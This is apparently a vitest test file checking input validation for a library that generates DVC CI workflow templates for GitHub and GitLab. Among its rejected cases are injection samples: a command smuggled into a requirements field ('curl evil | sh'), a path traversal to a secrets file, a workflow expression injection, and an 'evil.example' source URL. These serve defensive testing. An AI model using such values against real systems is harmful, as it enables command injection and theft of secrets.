import { describe, expect, it } from 'vitest';
import { inputsSchema, isTemplateInputError, render, validateInputs } from '../src/index.js';
import type { Provider } from '../src/index.js';

interface Row {
  provider: Provider;
  template: string;
  inputs: Record<string, unknown>;
  /** Input names expected in the problems (empty: valid). */
  problems: string[];
}

const table: Row[] = [
  { provider: 'github', template: 'dvc-gcs', inputs: {}, problems: [] },
  { provider: 'github', template: 'dvc-gcs', inputs: { 'python-version': '3.12.7', 'dvc-version': '3.63.0', branches: ['main', 'release/v1'] }, problems: [] },
  { provider: 'gitlab', template: 'dvc-s3', inputs: { runner: ['docker', 'gpu'], 'timeout-minutes': 10 }, problems: [] },
  { provider: 'github', template: 'dvc-azure', inputs: { 'azure-auth': 'service-principal' }, problems: [] },
  { provider: 'github', template: 'dvc', inputs: { 'pin-actions': 'sha' }, problems: [] },
  { provider: 'gitlab', template: 'dvc', inputs: { requirements: '' }, problems: [] },
  { provider: 'github', template: 'dvc', inputs: { requirements: 'pyproject.toml' }, problems: [] },
  { provider: 'github', template: 'dvc-gcs', inputs: { 'dvc-version': '3' }, problems: ['dvc-version'] },
  { provider: 'github', template: 'dvc-gcs', inputs: { 'dvc-version': '>=3.0' }, problems: ['dvc-version'] },
  { provider: 'gitlab', template: 'dvc-gcs', inputs: { 'python-version': '2.7' }, problems: ['python-version'] },
  { provider: 'github', template: 'dvc', inputs: { requirements: '../secrets.txt' }, problems: ['requirements'] },
  { provider: 'github', template: 'dvc', inputs: { requirements: 'reqs.txt; curl evil | sh' }, problems: ['requirements'] },
  { provider: 'github', template: 'dvc', inputs: { 'working-directory': '/abs' }, problems: ['working-directory'] },
  { provider: 'github', template: 'dvc', inputs: { branches: [] }, problems: ['branches'] },
  { provider: 'github', template: 'dvc', inputs: { branches: 'main' }, problems: ['branches'] },
  { provider: 'github', template: 'dvc', inputs: { branches: ['main', '${{ github.head_ref }}'] }, problems: ['branches'] },
  { provider: 'github', template: 'dvc', inputs: { 'timeout-minutes': 0 }, problems: ['timeout-minutes'] },
  { provider: 'github', template: 'dvc', inputs: { 'timeout-minutes': '60' }, problems: ['timeout-minutes'] },
  { provider: 'github', template: 'dvc', inputs: { cml: 'yes' }, problems: ['cml'] },
  { provider: 'github', template: 'dvc', inputs: { 'pull-strategy': 'pull-first' }, problems: ['pull-strategy'] },
  { provider: 'gitlab', template: 'dvc', inputs: { 'pin-actions': 'sha' }, problems: ['pin-actions'] },
  { provider: 'github', template: 'dvc', inputs: { typo: 1 }, problems: ['typo'] },
  { provider: 'github', template: 'dvc-gcs-keyless', inputs: {}, problems: ['workload-identity-provider', 'service-account'] },
  { provider: 'gitlab', template: 'dvc-gcs-keyless', inputs: { 'workload-identity-provider': 'pool', 'service-account': 'me@gmail.com' }, problems: ['workload-identity-provider', 'service-account'] },
  { provider: 'github', template: 'dvc-s3-keyless', inputs: { 'role-to-assume': 'arn:aws:iam::12:role/x' }, problems: ['role-to-assume'] },
  { provider: 'gitlab', template: 'dvc-minio', inputs: {}, problems: ['endpoint-url'] },
  { provider: 'gitlab', template: 'dvc-minio', inputs: { 'endpoint-url': 'ftp://minio' }, problems: ['endpoint-url'] },
  { provider: 'github', template: 'dvc-azure', inputs: { 'azure-auth': 'sas' }, problems: ['azure-auth'] },
  { provider: 'github', template: 'dvc', inputs: { 'dvc-version': 'x', 'python-version': 'y', cml: 1 }, problems: ['dvc-version', 'python-version', 'cml'] },
  { provider: 'github', template: 'dvc', inputs: { paths: ['ml/**', '**/*.py', '.github/workflows/ml.yml', 'dvc.lock'] }, problems: [] },
  // Paths are matched from the repository's root: `./ml/**` would match nothing.
  { provider: 'github', template: 'dvc', inputs: { paths: ['./ml/**'] }, problems: ['paths'] },
  { provider: 'gitlab', template: 'dvc', inputs: { paths: ['../other/**'] }, problems: ['paths'] },
];

describe('validateInputs', () => {
  it.each(table.map((r) => [`${r.provider}/${r.template} ${JSON.stringify(r.inputs)}`, r] as const))('%s', (_name, r) => {
    const result = validateInputs(r.provider, r.template, r.inputs);
    if (r.problems.length === 0) {
      expect(result).toMatchObject({ ok: true });
      return;
    }
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect([...new Set(result.problems.map((p) => p.input))].sort()).toEqual([...r.problems].sort());
    for (const p of result.problems) expect(p.message.length).toBeGreaterThan(5);
  });

  it('fills in defaults, per provider', () => {
    const gh = validateInputs('github', 'dvc-gcs', {});
    const gl = validateInputs('gitlab', 'dvc-gcs', { cml: true });
    expect(gh).toEqual({ ok: true, inputs: expect.objectContaining({ 'python-version': '3.12', 'dvc-version': '3.63.0', requirements: 'requirements.txt', branches: ['main'], 'timeout-minutes': 60, runner: ['ubuntu-latest'], 'pin-actions': 'sha' }) });
    expect(gl).toEqual({ ok: true, inputs: expect.objectContaining({ runner: [], cml: true }) });
    expect(gl.ok && 'pin-actions' in gl.inputs).toBe(false);
  });

  it('explains what a value should look like', () => {
    const r = validateInputs('github', 'dvc', { 'dvc-version': '3' });
    expect(r).toEqual({ ok: false, problems: [{ input: 'dvc-version', message: '"3" is not an exact version such as 3.63.0' }] });
  });

  it('reports an unknown template instead of throwing', () => {
    expect(validateInputs('github', 'dvc-ftp', {})).toEqual({ ok: false, problems: [{ input: '', message: 'unknown template "dvc-ftp"' }] });
  });
});

describe('render with invalid inputs', () => {
  it('throws TemplateInputError listing every problem, never returns a file', () => {
    let caught: unknown;
    try {
      render('gitlab', 'dvc-minio', { 'dvc-version': 'latest' });
    } catch (err) {
      caught = err;
    }
    expect(isTemplateInputError(caught)).toBe(true);
    if (!isTemplateInputError(caught)) return;
    expect(caught.problems.map((p) => p.input).sort()).toEqual(['dvc-version', 'endpoint-url']);
    expect(caught.message).toContain('dvc-version');
  });

  it.each([
    [{ mode: 'pinned' as const, ref: 'main' }, 'ref'],
    [{ mode: 'pinned' as const, source: 'https://evil.example/x y' }, 'source'],
  ])('rejects pinned option %j', (options, input) => {
    expect(() => render('github', 'dvc', {}, options)).toThrow(expect.objectContaining({ problems: [expect.objectContaining({ input })] }));
  });

  it.each([null, [], 'dvc-version=3.63.0'])('rejects inputs that are not an object (%j)', (inputs) => {
    expect(() => render('github', 'dvc', inputs as unknown as Record<string, unknown>)).toThrow(expect.objectContaining({ name: 'TemplateInputError', problems: [{ input: '', message: 'inputs must be an object of input names to values' }] }));
  });

  it('treats inputs given as undefined as not given', () => {
    expect(validateInputs('github', 'dvc', { 'dvc-version': undefined })).toMatchObject({ ok: true, inputs: { 'dvc-version': '3.63.0' } });
  });

  it('throws for an unknown template', () => {
    expect(() => render('github', 'dvc-ftp', {})).toThrow(/unknown template "dvc-ftp"/);
  });
});

describe('inputsSchema', () => {
  it('is a draft-07 object schema naming every input with its default', () => {
    const schema = inputsSchema('github', 'dvc-minio');
    expect(schema.$schema).toBe('http://json-schema.org/draft-07/schema#');
    expect(schema.additionalProperties).toBe(false);
    expect(schema.required).toEqual(['endpoint-url']);
    const props = schema.properties as Record<string, Record<string, unknown>>;
    expect(props['dvc-version']).toMatchObject({ type: 'string', default: '3.63.0' });
    expect(props.branches).toMatchObject({ type: 'array', items: { type: 'string' }, default: ['main'] });
    expect(props.cml).toMatchObject({ type: 'boolean', default: false });
  });
  it('differs per provider where inputs do', () => {
    expect(Object.keys(inputsSchema('github', 'dvc').properties as object)).toContain('pin-actions');
    expect(Object.keys(inputsSchema('gitlab', 'dvc').properties as object)).not.toContain('pin-actions');
  });
});
